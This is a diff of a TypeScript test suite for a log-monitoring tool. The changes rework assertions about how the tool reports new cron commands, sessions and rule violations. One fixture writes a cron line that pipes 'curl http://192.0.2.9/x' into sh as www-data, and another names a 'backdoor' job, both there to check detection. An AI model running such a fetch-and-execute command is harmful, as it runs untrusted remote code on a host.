@@ -3,6 +3,7 @@ import { appendFileSync, readdirSync, readFileSync, rmSync, writeFileSync } from
 import { gzipSync } from "node:zlib";
 import { expect } from "chai";
 import { Sandbox, type Outcome } from "../support/cli.js";
+import { countsIn, inOneLine } from "../support/mail-text.js";
 
 const header = String.raw`^\w{3} [ :0-9]{11} [._[:alnum:]-]+ `;
 const months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
@@ -51,10 +52,10 @@ describe("conditions of rules", () => {
       writeFileSync(`${log}.2.gz`, gzipSync(cron(9 * 1440, "monthly")));
       writeFileSync(log, cron(70, "hourly"));
       const first = told();
-      expect(first).to.include("KNOWN ON THIS HOST FROM NOW ON: 3");
+      expect(inOneLine(first)).to.include("KNOWN ON THIS HOST FROM NOW ON 3");
       for (const key of ["cron-command", "root, hourly", "root, monthly", "root, weekly #"])
-        expect(first).to.include(key);
-      expect(first).to.not.include("VIOLATIONS");
+        expect(inOneLine(first)).to.include(key);
+      expect(countsIn(first).violations).to.equal(0);
       appendFileSync(log, cron(10, "hourly") + cron(9, "weekly 8") + cron(8, "monthly"));
       expect(told()).to.equal("");
     });
@@ -64,9 +65,9 @@ describe("conditions of rules", () => {
       told();
       appendFileSync(log, cron(10, "curl http://192.0.2.9/x | sh", "www-data") + cron(9, "hourly"));
       const report = told();
-      expect(report).to.include("VIOLATIONS: 1 line");
-      expect(report).to.include("first seen: cron-command: www-data, curl http://#.#.#.#/x | sh");
-      expect(report).to.not.include("KNOWN ON THIS HOST");
+      expect(countsIn(report).violations).to.equal(1);
+      expect(inOneLine(report)).to.include("first seen: cron-command: www-data, curl http://#.#.#.#/x | sh");
+      expect(inOneLine(report)).to.not.include("KNOWN ON THIS HOST");
       appendFileSync(log, cron(5, "curl http://192.0.2.9/x | sh", "www-data"));
       expect(told()).to.equal("");
     });
@@ -76,7 +77,7 @@ describe("conditions of rules", () => {
       told();
       appendFileSync(log, cron(10, "new job"));
       for (const args of [["--dry-run"], ["--dry-run"], []])
-        expect(told(...args)).to.include("root, new job");
+        expect(inOneLine(told(...args))).to.include("root, new job");
       expect(told()).to.equal("");
     });
 
@@ -88,7 +89,7 @@ describe("conditions of rules", () => {
       writeFileSync(path, readFileSync(path, "utf8").replace("hourly", "hourlz"));
       appendFileSync(log, cron(10, "hourly"));
       const report = told();
-      expect(report)
+      expect(inOneLine(report))
         .to.include("is damaged (its checksum is wrong)")
         .and.include("first seen: cron-command: root, hourly");
       appendFileSync(log, cron(5, "hourly"));
@@ -104,13 +105,13 @@ describe("conditions of rules", () => {
       );
       appendFileSync(log, line(10, "CRON[8]: pam_unix: session for alice"));
       const report = told();
-      expect(report)
-        .to.include("KNOWN ON THIS HOST FROM NOW ON: 2")
+      expect(inOneLine(report))
+        .to.include("KNOWN ON THIS HOST FROM NOW ON 2")
         .and.include("alice")
         .and.include("session");
-      expect(report).to.not.include("VIOLATIONS");
+      expect(countsIn(report).violations).to.equal(0);
       appendFileSync(log, line(5, "CRON[9]: pam_unix: session for mallory"));
-      expect(told()).to.include("first seen: session: mallory");
+      expect(inOneLine(told())).to.include("first seen: session: mallory");
     });
 
     it("tells more, never less, when keys are flooded", () => {
@@ -121,16 +122,17 @@ describe("conditions of rules", () => {
       );
       appendFileSync(log, flood.join("") + cron(10, "hourly"));
       const flooded = told();
-      expect(flooded).to.include("VIOLATIONS: 1,000 lines");
-      expect(flooded).to.include(
-        'first-seen of "cron": there is no room for more keys: 701 lines were reported',
+      expect(countsIn(flooded).violations).to.equal(1_000);
+      expect(inOneLine(flooded)).to.include(
+        'first-seen of "cron": there is no room for more keys 701 lines were reported',
       );
       appendFileSync(log, cron(5, "backdoor") + cron(4, "hourly"));
       const after = told();
-      expect(after).to.include("VIOLATIONS: 1 line").and.include("CMD (backdoor)");
-      expect(after).to.include("there is no room to remember more");
+      expect(countsIn(after).violations).to.equal(1);
+      expect(inOneLine(after)).to.include("CMD (backdoor)");
+      expect(inOneLine(after)).to.include("there is no room to remember more");
       appendFileSync(log, cron(3, "backdoor"));
-      expect(told()).to.include("CMD (backdoor)");
+      expect(inOneLine(told())).to.include("CMD (backdoor)");
     });
 
     it("gives way to a rule that was written for this host", () => {
@@ -159,7 +161,7 @@ describe("conditions of rules", () => {
         because: "first seen",
         firstSeen: "cron-command: root, hourly",
       });
-      expect(filter("--group").stdout).to.include("first seen: cron-command: root, daily");
+      expect(inOneLine(filter("--group").stdout)).to.include("first seen: cron-command: root, daily");
       expect(filter("--layer", "ignored", "--count").stdout).to.equal("2\n");
     });
   });
@@ -176,9 +178,10 @@ describe("conditions of rules", () => {
       expect(told()).to.equal("");
       appendFileSync(log, line(10, "app: slow 3") + line(9, "app: slow 4") + line(8, "app: slow 5"));
       const report = told();
-      expect(report).to.include("EVERYTHING ELSE: 2 lines").and.include("more than its rule allows");
-      expect(report).to.not.include("slow 3");
-      expect(report).to.include("slow 4").and.include("slow 5");
+      expect(countsIn(report).others).to.equal(2);
+      expect(inOneLine(report)).to.include("more than its rule allows");
+      expect(inOneLine(report)).to.not.include("slow 3");
+      expect(inOneLine(report)).to.include("slow 4").and.include("slow 5");
     });
 
     it("min keeps lines from run to run, and tells them with the one that reaches it", () => {
@@ -193,12 +196,14 @@ describe("conditions of rules", () => {
         line(11, "app: refused 3") + line(10, "app: refused 4") + line(9, "app: refused 5"),
       );
       const report = told();
-      expect(report).to.include("VIOLATIONS: 2 lines").and.include("minimum was not reached: 3 lines");
-      for (const number of [1, 2, 3, 4, 5]) expect(report).to.include(`refused ${number}`);
-      expect(report).to.not.include("refused 0");
+      expect(countsIn(report).violations).to.equal(2);
+      expect(inOneLine(report)).to.include("3 lines before, when its rule's minimum was not reached");
+      for (const number of [1, 2, 3, 4, 5]) expect(inOneLine(report)).to.include(`refused ${number}`);
+      expect(inOneLine(report)).to.not.include("refused 0");
       appendFileSync(log, line(1, "app: refused 6"));
       const next = told();
-      expect(next).to.include("VIOLATIONS: 1 line").and.include("refused 6").and.not.include("refused 5");
+      expect(countsIn(next).violations).to.equal(1);
+      expect(inOneLine(next)).to.include("refused 6").and.not.include("refused 5");
     });
 
     it("filter shows all of them once enough have come", () => {
@@ -230,9 +235,9 @@ describe("conditions of rules", () => {
           line(5, "app: cannot connect c"),
       );
       const report = told();
-      expect(report).to.include("SHOULD NEVER HAPPEN: 1 line\n").and.include("VIOLATIONS: 2 lines");
-      expect(report).to.include("expected while the machine boots");
-      expect(report.indexOf("connect c")).to.be.lessThan(report.indexOf("VIOLATIONS"));
+      expect(countsIn(report)).to.include({ alarms: 1, violations: 2 });
+      expect(inOneLine(report)).to.include("expected while the machine boots");
+      expect(report.indexOf("connect c")).to.be.lessThan(report.indexOf("WORTH A LOOK"));
     });
 
     it("remembers a boot for the next run", () => {
@@ -240,7 +245,7 @@ describe("conditions of rules", () => {
       appendFileSync(log, boot(12));
       expect(told()).to.equal("");
       appendFileSync(log, line(4, "app: cannot connect"));
-      expect(told()).to.include("VIOLATIONS: 1 line");
+      expect(countsIn(told()).violations).to.equal(1);
     });
 
     it("filter knows what came before", () => {
@@ -254,7 +259,8 @@ describe("conditions of rules", () => {
     box.write("rules/ignore.d/server/app", `#@ until=2020-01-31 owner=ops\n${header}app: tolerated$\n`);
     writeFileSync(log, line(10, "app: tolerated"));
     const first = told();
-    expect(first).to.include("EVERYTHING ELSE: 1 line").and.include("its time ended on 2020-01-31 (ops)");
+    expect(countsIn(first).others).to.equal(1);
+    expect(inOneLine(first)).to.include("its time ended on 2020-01-31 (ops)");
     expect(told(), "not every hour").to.equal("");
   });
 
@@ -262,6 +268,6 @@ describe("conditions of rules", () => {
     writeFileSync(log, cron(70, "hourly"));
     told();
     rmSync(box.path("state"), { recursive: true });
-    expect(told()).to.include("KNOWN ON THIS HOST FROM NOW ON: 1");
+    expect(inOneLine(told())).to.include("KNOWN ON THIS HOST FROM NOW ON 1");
   });
 });
